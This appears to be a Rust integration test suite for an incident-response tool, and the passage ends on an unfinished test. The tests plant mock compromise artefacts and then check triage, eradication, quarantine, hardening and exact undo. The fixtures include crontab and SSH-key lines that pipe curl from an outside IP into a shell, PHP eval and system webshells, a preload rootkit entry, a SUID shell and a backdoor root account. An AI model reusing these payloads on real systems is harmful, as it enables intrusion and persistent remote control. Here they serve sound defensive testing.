//! Response actions end to end on throwaway roots (and, for processes, a child of this test):
//! planted footholds found by triage are eradicated and re-checked, and `undo --all` puts every
//! file back exactly — content, owner, mode and times.

use std::collections::BTreeMap;
use std::io::Read;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn fw(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_firewarden"))
        .args(args)
        .env("NO_COLOR", "1")
        .env_remove("SSH_CONNECTION")
        .env_remove("SSH_CLIENT")
        .output()
        .unwrap()
}

fn text(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

fn ok(out: Output) -> String {
    let t = text(&out);
    assert!(
        out.status.success(),
        "firewarden failed ({:?}): {t}",
        out.status.code()
    );
    t
}

fn write(root: &Path, path: &str, content: &str, mode: u32) {
    let full = root.join(path.trim_start_matches('/'));
    std::fs::create_dir_all(full.parent().unwrap()).unwrap();
    std::fs::write(&full, content).unwrap();
    std::fs::set_permissions(&full, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// Every entry under `root` with what undo must restore: kind, content hash or link target,
/// owner, mode, for files their modification and access times, for directories their
/// modification time (undo puts it back after re-creating an entry). Change times cannot be
/// set, so they are not compared.
fn snapshot(root: &Path) -> BTreeMap<PathBuf, String> {
    let mut out = BTreeMap::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for e in std::fs::read_dir(&dir).unwrap().flatten() {
            let p = e.path();
            let m = std::fs::symlink_metadata(&p).unwrap();
            let what = if m.file_type().is_symlink() {
                format!("link {}", std::fs::read_link(&p).unwrap().display())
            } else if m.is_dir() {
                stack.push(p.clone());
                // Modification times only: listing a directory may move its access time.
                format!("dir mtime {}.{}", m.mtime(), m.mtime_nsec())
            } else {
                // O_NOATIME: looking must not change the access times being compared.
                let mut bytes = Vec::new();
                std::fs::OpenOptions::new()
                    .read(true)
                    .custom_flags(libc::O_NOATIME)
                    .open(&p)
                    .unwrap()
                    .read_to_end(&mut bytes)
                    .unwrap();
                format!(
                    "file {:x} mtime {}.{} atime {}.{}",
                    fnv(&bytes),
                    m.mtime(),
                    m.mtime_nsec(),
                    m.atime(),
                    m.atime_nsec()
                )
            };
            out.insert(
                p.strip_prefix(root).unwrap().to_path_buf(),
                format!("{what} {}:{} {:o}", m.uid(), m.gid(), m.mode() & 0o7777),
            );
        }
    }
    out
}

fn fnv(bytes: &[u8]) -> u64 {
    bytes.iter().fold(0xcbf29ce484222325u64, |h, b| {
        (h ^ *b as u64).wrapping_mul(0x100000001b3)
    })
}

fn findings(report: &Path) -> Vec<(String, String)> {
    let v: serde_json::Value = serde_json::from_slice(&std::fs::read(report).unwrap()).unwrap();
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["id"].as_str().unwrap().to_string(),
                f["check"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

/// A root with one of each foothold eradication handles, next to legitimate content that must
/// survive untouched.
fn planted_root() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path();
    write(r, "/etc/hostname", "web01\n", 0o644);
    write(
        r,
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\ntoor:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
        0o644,
    );
    write(
        r,
        "/etc/shadow",
        "root:$6$r$h:19000:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\ntoor:$6$t$h:19000:0:99999:7:::\nalice:$6$a$h:19000:0:99999:7:::\n",
        0o640,
    );
    write(
        r,
        "/etc/crontab",
        "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n",
        0o644,
    );
    write(
        r,
        "/root/.ssh/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHlegit admin@corp\ncommand=\"curl -s http://203.0.113.9/k | bash\" ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCevil x@y\n",
        0o600,
    );
    write(
        r,
        "/etc/ld.so.preload",
        "/usr/lib/x86_64-linux-gnu/libsystem.so\n",
        0o644,
    );
    write(
        r,
        "/usr/lib/x86_64-linux-gnu/libsystem.so",
        "\x7fELF rootkit",
        0o755,
    );
    write(
        r,
        "/etc/systemd/system/dbus-sync.service",
        "[Unit]\nDescription=sync\n[Service]\nExecStart=/tmp/.ICE-unix/.x/dbus-sync\n[Install]\nWantedBy=multi-user.target\n",
        0o644,
    );
    std::fs::create_dir_all(r.join("etc/systemd/system/multi-user.target.wants")).unwrap();
    std::os::unix::fs::symlink(
        "/etc/systemd/system/dbus-sync.service",
        r.join("etc/systemd/system/multi-user.target.wants/dbus-sync.service"),
    )
    .unwrap();
    write(r, "/tmp/.ICE-unix/.x/dbus-sync", "\x7fELF miner", 0o755);
    write(r, "/var/tmp/.bash", "\x7fELF a copy of bash", 0o4755);
    write(
        r,
        "/var/www/html/shop.sql",
        "-- MySQL dump 10.13  Distrib 8.0.36, for Linux (x86_64)\n--\n-- Host: localhost    Database: shop\nCREATE TABLE `users` (`id` int, `email` varchar(255));\nINSERT INTO `users` VALUES (1,'a@example.com');\n",
        0o644,
    );
    write(r, "/var/www/html/index.html", "<h1>shop</h1>\n", 0o644);
    write(
        r,
        "/var/www/html/up.php",
        "<?php @eval($_POST['cmd']); ?>\n",
        0o644,
    );
    dir
}

#[test]
fn eradicate_every_planted_foothold_then_undo_restores_the_exact_tree() {
    let root = planted_root();
    let r = root.path().to_str().unwrap();
    let state = tempfile::tempdir().unwrap();
    let sd = state.path().join("state");
    let sd = sd.to_str().unwrap();
    let work = tempfile::tempdir().unwrap();
    let report = work.path().join("triage.json");
    let before = snapshot(root.path());

    let out = fw(&[
        "triage",
        "--root",
        r,
        "--format",
        "json",
        "-o",
        report.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let wanted = [
        "linux.accounts.uid0",
        "linux.persistence.cron",
        "linux.ssh.authorized_keys",
        "linux.persistence.ld_preload",
        "linux.persistence.systemd",
        "linux.web.webshell",
        "linux.files.temp_dirs",
        "linux.persistence.suid",
        "linux.web.dump",
    ];
    let found = findings(&report);
    for check in wanted {
        assert!(
            found.iter().any(|(_, c)| c == check),
            "triage did not find {check}: {found:?}"
        );
    }
    let verify = fw(&["recover", "verify", "--root", r, "--min-severity", "high"]);
    assert_eq!(
        verify.status.code(),
        Some(1),
        "footholds are left: {}",
        text(&verify)
    );
    let listed = ok(fw(&[
        "eradicate",
        "--from",
        report.to_str().unwrap(),
        "--list",
    ]));
    for check in wanted {
        assert!(listed.contains(check), "{check} not eradicable: {listed}");
    }

    // A dry run changes nothing, and without --yes (no terminal here) nothing happens either.
    let ids: Vec<String> = found
        .iter()
        .filter(|(_, c)| wanted.contains(&c.as_str()))
        .map(|(id, _)| id.clone())
        .collect();
    let mut args = vec![
        "eradicate",
        "--from",
        report.to_str().unwrap(),
        "--root",
        r,
        "--state-dir",
        sd,
    ];
    args.extend(ids.iter().map(String::as_str));
    let dry = ok(fw(&[args.as_slice(), &["--dry-run"]].concat()));
    assert!(
        dry.contains("-*/5 * * * * root curl"),
        "the plan shows the removed line: {dry}"
    );
    assert_eq!(snapshot(root.path()), before);
    assert!(
        !Path::new(sd).exists(),
        "a dry run created the state directory"
    );
    let refused = fw(&args);
    assert_eq!(refused.status.code(), Some(2));
    assert_eq!(snapshot(root.path()), before);

    // Eradicate them all (`--all`: every high or critical finding with a remedy): every
    // re-run check says gone. Findings that share a foothold with an earlier one (the unit's
    // link, the webshell's second rule) find it gone already.
    let out = fw(&[
        "eradicate",
        "--from",
        report.to_str().unwrap(),
        "--all",
        "--root",
        r,
        "--state-dir",
        sd,
        "--yes",
        "--format",
        "json",
    ]);
    let outcomes: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
    let gone = outcomes
        .as_array()
        .map_or(0, |a| a.iter().filter(|o| o["gone"] == true).count());
    assert!(gone >= wanted.len(), "{}", text(&out));
    assert!(
        outcomes
            .as_array()
            .unwrap()
            .iter()
            .all(|o| o["gone"] == true),
        "{}",
        text(&out)
    );

    let again = work.path().join("again.json");
    fw(&[
        "triage",
        "--root",
        r,
        "--format",
        "json",
        "-o",
        again.to_str().unwrap(),
    ]);
    let left = findings(&again);
    for check in wanted {
        assert!(
            !left.iter().any(|(_, c)| c == check),
            "{check} still reported: {left:?}"
        );
    }
    // `recover verify` agrees: nothing high or critical is left, and it says so by exit code.
    let verify = fw(&["recover", "verify", "--root", r, "--min-severity", "high"]);
    assert_eq!(verify.status.code(), Some(0), "{}", text(&verify));
    // What was legitimate is still there.
    let crontab = std::fs::read_to_string(root.path().join("etc/crontab")).unwrap();
    assert!(crontab.contains("run-parts") && !crontab.contains("curl"));
    let keys = std::fs::read_to_string(root.path().join("root/.ssh/authorized_keys")).unwrap();
    assert!(keys.contains("admin@corp") && !keys.contains("command="));
    let passwd = std::fs::read_to_string(root.path().join("etc/passwd")).unwrap();
    assert!(passwd.contains("alice") && !passwd.contains("toor"));
    assert!(!root.path().join("var/www/html/up.php").exists());
    assert!(root.path().join("var/www/html/index.html").exists());

    let actions = ok(fw(&["actions", "--state-dir", sd, "--format", "json"]));
    let list: serde_json::Value = serde_json::from_str(&actions).unwrap();
    assert!(
        list.as_array()
            .unwrap()
            .iter()
            .all(|a| a["status"] == "applied" && a["verified"] == true)
    );

    // Undo everything: the tree is exactly as it was.
    ok(fw(&["undo", "--all", "--root", r, "--state-dir", sd]));
    assert_eq!(snapshot(root.path()), before);
    let verify = ok(fw(&["actions", "--verify", "--state-dir", sd]));
    assert!(verify.contains("chain intact"), "{verify}");

    // The journal, exported and signed for the case record, checks on its own; a changed
    // byte breaks both the chain and the signature.
    let key = work.path().join("responder");
    ok(fw(&["keygen", "-o", key.to_str().unwrap()]));
    let export = work.path().join("case.journal");
    let export_s = export.to_str().unwrap();
    let signing = format!("{}.key", key.display());
    let public = format!("{}.pub", key.display());
    ok(fw(&[
        "actions",
        "--state-dir",
        sd,
        "--export",
        export_s,
        "--key",
        &signing,
    ]));
    let checked = ok(fw(&[
        "actions",
        "--check-export",
        export_s,
        "--key",
        &public,
    ]));
    assert!(
        checked.contains("OK signature") && checked.contains("chain intact"),
        "{checked}"
    );
    let t = std::fs::read_to_string(&export).unwrap();
    // The case platform reads the real export: recognised by content, its chain checked, its
    // eradication actions seen by the stage gates. The triage result likewise.
    use firewarden_case::import;
    assert_eq!(
        import::recognise(t.as_bytes()),
        Ok(import::ImportKind::ActionJournal)
    );
    let entries = import::parse_journal(t.as_bytes()).unwrap();
    let triage_json = std::fs::read(&report).unwrap();
    assert_eq!(
        import::recognise(&triage_json),
        Ok(import::ImportKind::Triage)
    );
    let facts = import::case_facts(&[
        import::Imported::Analysis(import::parse_triage(&triage_json).unwrap()),
        import::Imported::Journal(entries, Some(public.clone())),
    ]);
    assert!(!facts.eradication_actions.is_empty(), "{facts:?}");
    assert!(
        facts
            .eradicated_checks
            .contains(&"linux.persistence.cron".to_owned())
    );
    std::fs::write(
        &export,
        t.replacen("\"risk\":\"medium\"", "\"risk\":\"low\"", 1),
    )
    .unwrap();
    assert!(matches!(
        import::parse_journal(std::fs::read(&export).unwrap().as_slice()),
        Err(import::ImportError::BrokenChain(_))
    ));
    let bad = fw(&["actions", "--check-export", export_s, "--key", &public]);
    assert_eq!(bad.status.code(), Some(1), "{}", text(&bad));
    assert!(text(&bad).contains("BAD signature"), "{}", text(&bad));
}

#[test]
fn undo_refuses_to_overwrite_a_later_change_unless_forced_and_the_chain_shows_tampering() {
    let root = planted_root();
    let r = root.path().to_str().unwrap();
    let state = tempfile::tempdir().unwrap();
    let sd = state.path().to_str().unwrap();
    let before = std::fs::read(root.path().join("etc/crontab")).unwrap();
    ok(fw(&[
        "contain",
        "file",
        "/var/www/html/up.php",
        "--root",
        r,
        "--state-dir",
        sd,
        "--yes",
    ]));
    let work = tempfile::tempdir().unwrap();
    let report = work.path().join("t.json");
    fw(&[
        "triage",
        "--root",
        r,
        "--only",
        "linux.persistence.cron",
        "--format",
        "json",
        "-o",
        report.to_str().unwrap(),
    ]);
    let (id, _) = findings(&report)
        .into_iter()
        .find(|(_, c)| c == "linux.persistence.cron")
        .unwrap();
    ok(fw(&[
        "eradicate",
        "--from",
        report.to_str().unwrap(),
        &id,
        "--root",
        r,
        "--state-dir",
        sd,
        "--yes",
    ]));

    // Someone edits the crontab afterwards: undo must not silently throw their edit away.
    let edited = b"# edited by the admin after eradication\n";
    std::fs::write(root.path().join("etc/crontab"), edited).unwrap();
    let refused = fw(&["undo", "A2", "--root", r, "--state-dir", sd]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(
        text(&refused).contains("changed since"),
        "{}",
        text(&refused)
    );
    assert_eq!(
        std::fs::read(root.path().join("etc/crontab")).unwrap(),
        edited
    );
    ok(fw(&[
        "undo",
        "A2",
        "--force",
        "--root",
        r,
        "--state-dir",
        sd,
    ]));
    assert_eq!(
        std::fs::read(root.path().join("etc/crontab")).unwrap(),
        before
    );
    let twice = fw(&["undo", "A2", "--root", r, "--state-dir", sd]);
    assert_eq!(twice.status.code(), Some(2));

    // A journal line edited after the fact breaks the chain: listing says so, and nothing
    // more is added to a broken journal.
    let journal = state.path().join("journal.jsonl");
    let t = std::fs::read_to_string(&journal).unwrap();
    std::fs::write(
        &journal,
        t.replacen("\"operator\":\"", "\"operator\":\"x", 1),
    )
    .unwrap();
    assert_eq!(
        fw(&["actions", "--verify", "--state-dir", sd])
            .status
            .code(),
        Some(1)
    );
    let blocked = fw(&["undo", "A1", "--root", r, "--state-dir", sd]);
    assert_eq!(blocked.status.code(), Some(2));
    assert!(text(&blocked).contains("chain"), "{}", text(&blocked));
}

#[test]
fn quarantine_is_encrypted_and_comes_back_byte_for_byte_with_owner_mode_and_times() {
    let root = planted_root();
    let r = root.path().to_str().unwrap();
    let state = tempfile::tempdir().unwrap();
    let sd = state.path().to_str().unwrap();
    let shell = root.path().join("var/www/html/up.php");
    let content = std::fs::read(&shell).unwrap();
    std::fs::set_permissions(&shell, std::fs::Permissions::from_mode(0o4751)).unwrap();
    let before = snapshot(root.path());

    ok(fw(&[
        "contain",
        "file",
        "/var/www/html/up.php",
        "--root",
        r,
        "--state-dir",
        sd,
        "--yes",
    ]));
    assert!(!shell.exists());
    for e in std::fs::read_dir(state.path().join("vault"))
        .unwrap()
        .flatten()
    {
        let stored = std::fs::read(e.path()).unwrap();
        assert!(stored.starts_with(b"age-encryption.org/v1"));
        assert!(
            !stored.windows(5).any(|w| w == b"@eval"),
            "quarantine kept the file in clear"
        );
    }
    let shown = ok(fw(&[
        "actions",
        "--state-dir",
        sd,
        "--show",
        "A1",
        "--format",
        "json",
    ]));
    let sha =
        serde_json::from_str::<serde_json::Value>(&shown).unwrap()["action"]["steps"][0]["before"]
            ["sha256"]
            .as_str()
            .unwrap()
            .to_string();
    let out = state
        .path()
        .join("..")
        .join(format!("extract-{}", std::process::id()));
    ok(fw(&[
        "actions",
        "--state-dir",
        sd,
        "--extract",
        &sha,
        "-o",
        out.to_str().unwrap(),
    ]));
    assert_eq!(std::fs::read(&out).unwrap(), content);
    std::fs::remove_file(&out).unwrap();

    ok(fw(&["undo", "A1", "--root", r, "--state-dir", sd]));
    assert_eq!(snapshot(root.path()), before);
}

#[test]
fn account_lock_and_its_undo_on_a_throwaway_root() {
    let root = planted_root();
    let r = root.path().to_str().unwrap();
    write(
        root.path(),
        "/home/alice/.ssh/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAlice alice@laptop\n",
        0o600,
    );
    let state = tempfile::tempdir().unwrap();
    let sd = state.path().to_str().unwrap();
    let before = snapshot(root.path());

    let plan = ok(fw(&[
        "contain",
        "account",
        "alice",
        "--root",
        r,
        "--state-dir",
        sd,
        "--dry-run",
    ]));
    assert!(
        plan.contains("risk high") && plan.contains("alice:!$6$a$h"),
        "{plan}"
    );
    ok(fw(&[
        "contain",
        "account",
        "alice",
        "--root",
        r,
        "--state-dir",
        sd,
        "--yes",
    ]));
    let shadow = std::fs::read_to_string(root.path().join("etc/shadow")).unwrap();
    assert!(
        shadow.contains("alice:!$6$a$h:19000:0:99999:7::1:"),
        "{shadow}"
    );
    assert!(
        shadow.contains("root:$6$r$h:19000"),
        "other accounts untouched: {shadow}"
    );
    assert!(!root.path().join("home/alice/.ssh/authorized_keys").exists());
    let again = fw(&[
        "contain",
        "account",
        "alice",
        "--root",
        r,
        "--state-dir",
        sd,
        "--yes",
    ]);
    assert_eq!(
        again.status.code(),
        Some(2),
        "locking twice is refused: {}",
        text(&again)
    );
    assert_eq!(
        fw(&[
            "contain",
            "account",
            "nobody-here",
            "--root",
            r,
            "--state-dir",
            sd,
            "--yes"
        ])
        .status
        .code(),
        Some(2)
    );

    ok(fw(&["undo", "A1", "--root", r, "--state-dir", sd]));
    assert_eq!(snapshot(root.path()), before);

    // A backdoor account sharing root's home: root's keys are not taken with it.
    let plan = ok(fw(&[
        "contain",
        "account",
        "toor",
        "--root",
        r,
        "--state-dir",
        sd,
        "--dry-run",
    ]));
    assert!(
        plan.contains("/root/.ssh/authorized_keys is left alone"),
        "{plan}"
    );
    assert!(!plan.contains("quarantine /root/.ssh"), "{plan}");
}

#[test]
fn harden_check_apply_and_undo_on_a_throwaway_root() {
    let root = planted_root();
    let r = root.path().to_str().unwrap();
    write(
        root.path(),
        "/etc/ssh/sshd_config",
        "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin yes\nPermitEmptyPasswords yes\n",
        0o644,
    );
    write(
        root.path(),
        "/etc/ssh/sshd_config.d/50-cloud.conf",
        "PasswordAuthentication yes\n",
        0o644,
    );
    std::fs::set_permissions(
        root.path().join("etc/shadow"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    write(
        root.path(),
        "/etc/sudoers",
        "root ALL=(ALL:ALL) ALL\ndeploy ALL=(ALL) NOPASSWD: ALL\n",
        0o440,
    );
    write(
        root.path(),
        "/etc/sysctl.conf",
        "kernel.kptr_restrict = 0\n",
        0o644,
    );
    std::fs::create_dir_all(root.path().join("usr/local/bin")).unwrap();
    std::fs::set_permissions(
        root.path().join("usr/local/bin"),
        std::fs::Permissions::from_mode(0o777),
    )
    .unwrap();
    let state = tempfile::tempdir().unwrap();
    let sd = state.path().to_str().unwrap();
    let before = snapshot(root.path());

    let check = fw(&["harden", "check", "--root", r, "--format", "json"]);
    assert_eq!(check.status.code(), Some(1));
    let score: serde_json::Value = serde_json::from_slice(&check.stdout).unwrap();
    let status = |s: &serde_json::Value, id: &str| {
        s["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|i| i["id"] == id)
            .unwrap()["status"]
            .as_str()
            .unwrap()
            .to_string()
    };
    let items = [
        "ssh.root_login",
        "ssh.password_auth",
        "ssh.empty_passwords",
        "perms.shadow",
        "sudo.nopasswd",
        "path.world_writable",
        "kernel.kptr_restrict",
    ];
    for id in items {
        assert_eq!(status(&score, id), "fail", "{id}");
    }
    assert_eq!(status(&score, "perms.sudoers"), "pass");

    let mut args = vec!["harden", "apply"];
    args.extend(items);
    args.extend(["--root", r, "--state-dir", sd, "--yes"]);
    let applied = ok(fw(&args));
    assert!(
        applied.contains("+PermitRootLogin prohibit-password"),
        "{applied}"
    );
    let check = fw(&["harden", "check", "--root", r, "--format", "json"]);
    let score: serde_json::Value = serde_json::from_slice(&check.stdout).unwrap();
    for id in items {
        assert_eq!(status(&score, id), "pass", "{id} after apply");
    }
    assert_eq!(
        fw(&[
            "harden",
            "apply",
            "perms.shadow",
            "--root",
            r,
            "--state-dir",
            sd,
            "--yes"
        ])
        .status
        .code(),
        Some(2)
    );

    ok(fw(&["undo", "--all", "--root", r, "--state-dir", sd]));
    assert_eq!(snapshot(root.path()), before);
}

#[test]
fn recover_web_restores_tampered_and_removed_files_from_a_baseline() {
    let root = planted_root();
    let r = root.path().to_str().unwrap();
    let site = root.path().join("var/www/html");
    std::fs::remove_file(site.join("up.php")).unwrap();
    write(
        root.path(),
        "/var/www/html/about.html",
        "<p>about us</p>\n",
        0o644,
    );
    let work = tempfile::tempdir().unwrap();
    let baseline = work.path().join("site.baseline");
    ok(fw(&[
        "baseline",
        "create",
        site.to_str().unwrap(),
        "-o",
        baseline.to_str().unwrap(),
        "--copy",
    ]));
    let clean = snapshot(&site);

    // The attacker defaces one page, deletes another and drops a shell.
    write(
        root.path(),
        "/var/www/html/index.html",
        "<h1>hacked by x</h1><script src=//evil.example/m.js></script>\n",
        0o666,
    );
    std::fs::remove_file(site.join("about.html")).unwrap();
    write(
        root.path(),
        "/var/www/html/shell.php",
        "<?php system($_GET['c']); ?>\n",
        0o644,
    );
    let tampered = snapshot(root.path());

    let state = tempfile::tempdir().unwrap();
    let sd = state.path().to_str().unwrap();
    let plan = ok(fw(&[
        "recover",
        "web",
        baseline.to_str().unwrap(),
        "--site",
        "/var/www/html",
        "--root",
        r,
        "--state-dir",
        sd,
        "--dry-run",
    ]));
    assert!(
        plan.contains("+<h1>shop</h1>") && plan.contains("create /var/www/html/about.html"),
        "{plan}"
    );
    assert!(plan.contains("shell.php"), "added files are named: {plan}");
    ok(fw(&[
        "recover",
        "web",
        baseline.to_str().unwrap(),
        "--site",
        "/var/www/html",
        "--root",
        r,
        "--state-dir",
        sd,
        "--yes",
        "--quarantine-added",
    ]));
    let restored = snapshot(&site);
    let content = |s: &BTreeMap<PathBuf, String>| {
        s.iter()
            .map(|(k, v)| {
                (
                    k.clone(),
                    v.split(" mtime").next().unwrap().to_string()
                        + " "
                        + v.rsplit(' ').next().unwrap(),
                )
            })
            .collect::<BTreeMap<_, _>>()
    };
    assert_eq!(
        content(&restored),
        content(&clean),
        "content and modes are back"
    );
    let diff = fw(&[
        "baseline",
        "diff",
        baseline.to_str().unwrap(),
        site.to_str().unwrap(),
    ]);
    assert_eq!(diff.status.code(), Some(0), "{}", text(&diff));

    ok(fw(&["undo", "A1", "--root", r, "--state-dir", sd]));
    assert_eq!(snapshot(root.path()), tampered);
}

/// Signals are delivered asynchronously: waits (up to 10 s) for a process state to show.
fn settles(mut f: impl FnMut() -> bool) -> bool {
    let start = std::time::Instant::now();
    while start.elapsed() < std::time::Duration::from_secs(10) {
        if f() {
            return true;
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    false
}

#[test]
fn a_frozen_process_keeps_its_evidence_and_thaws_on_undo() {
    if !Path::new("/proc/self/stat").exists() {
        eprintln!("SKIPPED: no /proc");
        return;
    }
    let state = tempfile::tempdir().unwrap();
    let sd = state.path().to_str().unwrap();
    let mut child = Command::new("sleep").arg("300").spawn().unwrap();
    let pid = child.id().to_string();
    let proc_state = || {
        let s = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
        s[s.rfind(')').unwrap() + 2..].chars().next().unwrap()
    };
    let out = fw(&[
        "contain",
        "process",
        &pid,
        "--state-dir",
        sd,
        "--yes",
        "--format",
        "json",
    ]);
    let t = text(&out);
    assert!(out.status.success(), "{t}");
    assert!(settles(|| proc_state() == 'T'), "not stopped");
    let outcome: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let steps = outcome[0]["action"]["steps"].as_array().unwrap();
    let kept: Vec<&str> = steps.iter().filter_map(|s| s["what"].as_str()).collect();
    for part in ["exe", "maps", "cmdline", "environ", "fd (list)"] {
        assert!(
            kept.iter().any(|w| w.ends_with(part)),
            "{part} not kept: {kept:?}"
        );
    }
    // Its own binary is never quarantined (a copy in /tmp is flagged as a temp-dir program).
    let own = fw(&[
        "contain",
        "file",
        env!("CARGO_BIN_EXE_firewarden"),
        "--state-dir",
        sd,
        "--yes",
    ]);
    assert_eq!(own.status.code(), Some(2), "{}", text(&own));
    assert!(
        text(&own).contains("this firewarden binary"),
        "{}",
        text(&own)
    );
    // Its own session is never frozen.
    let me = std::process::id().to_string();
    assert_eq!(
        fw(&["contain", "process", &me, "--state-dir", sd, "--yes"])
            .status
            .code(),
        Some(2)
    );
    ok(fw(&["undo", "A1", "--state-dir", sd]));
    assert!(settles(|| proc_state() != 'T'), "not thawed");
    child.kill().unwrap();
    child.wait().unwrap();
}

/// Runs firewarden on a pseudo-terminal (util-linux `script`), typing `answer` at its prompt.
fn on_terminal(args: &[&str], answer: &str) -> Option<Output> {
    if !Path::new("/usr/bin/script").exists() {
        eprintln!("SKIPPED: util-linux `script` is needed to give firewarden a terminal");
        return None;
    }
    let quoted: Vec<String> = std::iter::once(env!("CARGO_BIN_EXE_firewarden"))
        .chain(args.iter().copied())
        .map(|a| format!("'{}'", a.replace('\'', "'\\''")))
        .collect();
    let mut child = Command::new("script")
        .args(["-qec", &quoted.join(" "), "/dev/null"])
        .env("NO_COLOR", "1")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(answer.as_bytes())
        .unwrap();
    Some(child.wait_with_output().unwrap())
}

#[test]
fn high_risk_actions_ask_for_the_host_name_at_the_terminal() {
    let root = planted_root();
    let r = root.path().to_str().unwrap();
    let state = tempfile::tempdir().unwrap();
    let sd = state.path().to_str().unwrap();
    let shadow = std::fs::read(root.path().join("etc/shadow")).unwrap();
    let args = [
        "contain",
        "account",
        "alice",
        "--root",
        r,
        "--state-dir",
        sd,
    ];
    // "y" is not the host name: nothing changes.
    let Some(out) = on_terminal(&args, "y\n") else {
        return;
    };
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(
        text(&out).contains("Type the host name (web01)"),
        "{}",
        text(&out)
    );
    assert_eq!(
        std::fs::read(root.path().join("etc/shadow")).unwrap(),
        shadow
    );
    let out = on_terminal(&args, "web01\n").unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert_ne!(
        std::fs::read(root.path().join("etc/shadow")).unwrap(),
        shadow
    );
    // A medium-risk action takes a plain yes.
    let out = on_terminal(
        &[
            "contain",
            "file",
            "/var/www/html/up.php",
            "--root",
            r,
            "--state-dir",
            sd,
        ],
        "y\n",
    )
    .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(!root.path().join("var/www/html/up.php").exists());
    // How each was confirmed is in the record, for the report's approvals.
    let list = ok(fw(&["actions", "--state-dir", sd, "--format", "json"]));
    let list: serde_json::Value = serde_json::from_str(&list).unwrap();
    assert_eq!(list[0]["action"]["confirmed"], "typed the host name");
    assert_eq!(list[1]["action"]["confirmed"], "answered yes");
}

/// Locks an account of the running system inside a private mount namespace whose /etc and
/// /home are throwaway copies; the account's session is a process of a uid nobody else uses.
#[test]
fn live_account_lock_ends_its_sessions_and_undo_restores_password_and_keys() {
    if !can_use_namespaces("live account test", &["unshare", "setpriv"]) {
        return;
    }
    const UID: u32 = 3_987_123;
    let fake = tempfile::tempdir().unwrap();
    let etc = fake.path().join("etc");
    std::fs::create_dir_all(&etc).unwrap();
    // Keep the real /etc's files (resolv.conf, nsswitch …) but our own accounts.
    for e in std::fs::read_dir("/etc").unwrap().flatten() {
        if e.file_type().map(|t| t.is_file()).unwrap_or(false) {
            let _ = std::fs::copy(e.path(), etc.join(e.file_name()));
        }
    }
    std::fs::write(
        etc.join("passwd"),
        format!("root:x:0:0:root:/root:/bin/bash\nfwtest:x:{UID}:{UID}::/home/fwtest:/bin/sh\n"),
    )
    .unwrap();
    std::fs::write(
        etc.join("shadow"),
        "root:*:19000:0:99999:7:::\nfwtest:$6$s$h:19000:0:99999:7:::\n",
    )
    .unwrap();
    let home = fake.path().join("home");
    write(
        fake.path(),
        "/home/fwtest/.ssh/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKey fwtest@x\n",
        0o600,
    );
    let before_etc = std::fs::read(etc.join("shadow")).unwrap();
    let state = tempfile::tempdir().unwrap();
    let script = format!(
        r#"set -e
mount --bind '{etc}' /etc
mount --bind '{home}' /home
setpriv --reuid={UID} --regid={UID} --clear-groups sleep 300 &
session=$!
sleep 0.3
'{fw}' contain account fwtest --state-dir '{sd}' --yes >'{sd}/out' 2>&1
# SIGKILL is delivered asynchronously: wait until the session is gone or a zombie.
for _ in $(seq 100); do
  st=$(awk '{{print $3}}' /proc/$session/stat 2>/dev/null || echo gone)
  if [ "$st" = gone ] || [ "$st" = Z ]; then break; fi
  sleep 0.05
done
if [ "$st" != gone ] && [ "$st" != Z ]; then echo SESSION-ALIVE; kill $session; fi
'{fw}' undo A1 --state-dir '{sd}' >>'{sd}/out' 2>&1
echo DONE
"#,
        etc = etc.display(),
        home = home.display(),
        fw = env!("CARGO_BIN_EXE_firewarden"),
        sd = state.path().display(),
    );
    let out = Command::new("unshare")
        .args(["--mount", "--propagation", "private", "bash", "-c", &script])
        .env_remove("SSH_CONNECTION")
        .output()
        .unwrap();
    let log = std::fs::read_to_string(state.path().join("out")).unwrap_or_default();
    let all = format!("{}{log}", text(&out));
    assert!(all.contains("DONE"), "{all}");
    assert!(
        !all.contains("SESSION-ALIVE"),
        "the account's session survived: {all}"
    );
    assert!(
        log.contains("end (SIGKILL") && log.contains("sleep 300"),
        "{log}"
    );
    assert!(
        log.contains("cannot be brought back"),
        "undo says what it could not restore: {log}"
    );
    // Password and keys are back exactly.
    assert_eq!(std::fs::read(etc.join("shadow")).unwrap(), before_etc);
    assert!(home.join("fwtest/.ssh/authorized_keys").exists());
}

#[test]
